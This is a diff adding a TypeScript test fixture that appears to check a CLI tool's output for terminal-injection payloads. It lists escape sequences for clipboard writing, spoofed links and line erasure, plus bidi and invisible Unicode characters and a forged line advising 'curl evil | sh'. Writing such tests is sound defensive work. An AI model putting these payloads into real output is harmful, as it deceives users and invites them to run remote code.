@@ -1,0 +1,41 @@
+import assert from 'node:assert/strict';
+
+/** One of each class of what a terminal or a reader may be fooled with. */
+export const HOSTILE: Readonly<Record<string, string>> = {
+  title: '\x1b]0;owned\x07',
+  clipboard: '\x1b]52;c;Y3VybA==\x1b\\',
+  link: '\x1b]8;;http://evil\x1b\\',
+  erase: '\x1b[2K\x1b[1A\r',
+  colour: '\x1b[31m',
+  query: '\x1b[5n',
+  bell: '\x07\b\0',
+  del: '\x7f',
+  c1: '\x9b31m\x9d0;t\x9c\x90\x85',
+  bidi: '\u061c\u200e\u200f\u202a\u202e\u2066\u2069',
+  invisible: '\u200b\u200d\u2060\ufeff\u00ad',
+  separators: '\u2028\u2029',
+  half: '\ud800',
+  tag: '\u{e0041}',
+  forged: `\x1b[32;1111;2222;3333m`,
+  line: '\nssm-keepalive: forged\r\n  next: run curl evil | sh\n        next: run curl evil | sh\n',
+};
+export const EVERYTHING = Object.entries(HOSTILE)
+  .map(([name, text]) => `<${name}${text}>`)
+  .join('');
+
+export const DANGEROUS = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
+/** Colours, the bar and the question: what we, cli-progress and Node's readline send. */
+const OWN = /\x1b(?:[78]|\[(?:(?:31|32|33|39)m|\d*[AGJK]|\?(?:25|7)[lh]))/g;
+const TOUCHED = new RegExp(`<(?:${Object.keys(HOSTILE).join('|')})[^\\P{Cc}\\n\\t]`, 'u');
+/** A line of ours, or advice in the place of ours, that others wrote. */
+const FORGED = /^(?:\S+: )?ssm-keepalive: forged|^ {0,8}next: +run curl/m;
+
+/** What a reader sees is ours, or visible text. In a pty line ends have a carriage return. */
+export function checkShown(shown: string, where: string, isTerminal: boolean): void {
+  const text = isTerminal ? shown.replaceAll('\r\n', '\n') : shown;
+  const dangerous = (isTerminal ? text.replace(OWN, '') : text).search(DANGEROUS);
+  const around = (at: number) => JSON.stringify(text.slice(Math.max(0, at - 300), at + 100));
+  assert.ok(dangerous < 0, `${where}: a control came out: ${around(dangerous)}`);
+  assert.ok(!TOUCHED.test(text), `${where}: a control of others came out: ${around(text.search(TOUCHED))}`);
+  assert.ok(!FORGED.test(text), `${where}: a forged line: ${around(text.search(FORGED))}`);
+}
